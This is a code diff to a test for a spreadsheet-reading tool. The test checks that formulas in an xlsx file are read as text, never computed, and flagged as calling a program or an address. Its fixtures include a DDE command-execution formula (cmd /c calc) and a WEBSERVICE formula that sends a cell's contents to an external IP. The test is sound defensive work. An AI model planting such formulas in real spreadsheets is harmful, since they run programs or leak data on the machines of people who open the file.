@@ -102,7 +102,13 @@ def test_formulas_are_read_and_never_computed() -> None:
     sheet["A4"] = '="pro"&"ducer"'
     made = io.BytesIO()
     book.save(made)
-    assert said("l.xlsx", made.getvalue()) == ['S-1\n=WEBSERVICE("http://192.0.2.1/?"&A1)\n="pro"&"ducer"']
+    (own,) = read_material("l.xlsx", made.getvalue(), own=True).readings
+    assert own.text.split("\n")[1:4] == [
+        "=cmd|'/c calc'!A1",
+        '=WEBSERVICE("http://192.0.2.1/?"&A1)',
+        '="pro"&"ducer"',
+    ]
+    assert said("l.xlsx", made.getvalue()) == ["S-1"]
     assert problems("l.xlsx", made.getvalue()) == [
         "l.xlsx: formulas would call a program, an address or another file: List!A2, List!A3 (none was computed); "
         "open it without its links, or ask for the values alone."
